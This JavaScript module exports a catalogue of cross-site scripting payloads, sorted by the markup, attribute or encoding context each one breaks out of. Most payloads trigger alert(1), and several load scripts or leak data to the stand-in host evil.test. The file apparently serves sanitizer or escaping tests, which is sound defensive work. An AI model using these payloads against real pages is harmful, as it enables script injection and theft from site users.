/** Texts that become script, markup or a way out wherever a page forgets to escape: by the place that each breaks out of. */

const script = 'alert(1)'

/** What runs as soon as it is markup. */
const elements = [
  `<script>${script}</script>`,
  `<ScRiPt>${script}</sCrIpT>`,
  `<script\n>${script}</script\n>`,
  `<script/x>${script}</script>`,
  `<script src=//evil.test/x.js></script>`,
  `<script src=data:,${script}></script>`,
  `<script type=module>${script}</script>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<img src=x onerror=${script}>`,
  `<img/src=x/onerror=${script}>`,
  `<img src=x onerror="${script}"`,
  `<img src=//evil.test/leak>`,
  '<img src=x onerror=&#97;lert(1)>',
  '<img src=`x`onerror=alert(1)>',
  `<svg onload=${script}>`,
  `<svg/onload=${script}//`,
  `<svg><script>${script}</script></svg>`,
  `<svg><script>alert&#40;1&#41;</script>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${script}"><text y=20>x</text></a>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${script}>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
  `<math href="javascript:${script}">x</math>`,
  `<body onload=${script}>`,
  `<body onpageshow=${script}>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<iframe src=//evil.test></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="javascript:${script}">`,
  `<details open ontoggle=${script}>x</details>`,
  `<video><source onerror=${script}></video>`,
  `<audio src=x onerror=${script}>`,
  `<input autofocus onfocus=${script}>`,
  `<select autofocus onfocus=${script}>`,
  `<textarea autofocus onfocus=${script}>`,
  `<marquee onstart=${script}>x</marquee>`,
  `<x tabindex=0 autofocus onfocus=${script}>x</x>`,
  `<div style="animation-name:x" onanimationstart=${script}>x</div>`,
  `<a href="javascript:${script}" autofocus>x</a>`,
  `<form action="javascript:${script}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${script}">x</button>`,
  `<isindex action="javascript:${script}" type=image>`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<link rel=prefetch href=//evil.test/x>`,
  `<meta http-equiv=refresh content="0;url=//evil.test">`,
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  `<base href=//evil.test/>`,
  `<style>@import '//evil.test/x.css'</style>`,
  `<style>*{background:url(//evil.test/x)}</style>`,
  `<template><script>${script}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<portal src=//evil.test>`,
  `<dialog open onclose=${script}>x</dialog>`,
]

/** What ends the text, element or attribute that it stands in first. */
const escapes = ['"', "'", '`', '">', "'>", '">\'>', '</title>', '</style>', '</h1>', '</main>', '-->', ']]>']
const broken = escapes.map((escape) => `${escape}<svg onload=${script}>`)
const attributes = ['"', "'", '` '].map((quote) => `x${quote} autofocus onfocus=${script} x=${quote}`)

/** What is decoded once too often, or means something to a template, a format or a URL. */
const encoded = [
  `&lt;img src=x onerror=${script}&gt;`,
  `&#60;img src=x onerror=${script}&#62;`,
  `%3Cimg%20src%3Dx%20onerror%3D${script}%3E`,
  `%253Cimg src=x onerror=${script}%253E`,
  `\\u003cimg src=x onerror=${script}\\u003e`,
  `\\x3cimg src=x onerror=${script}\\x3e`,
  `＜img src=x onerror=${script}＞`,
  `javascript:${script}`,
  `data:text/html,<script>${script}</script>`,
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '{ $app }{ $connector }{ "x" }',
  '\u202etxet derorrim<img src=x>',
]

export const payloads = [...elements, ...broken, ...attributes, ...encoded]
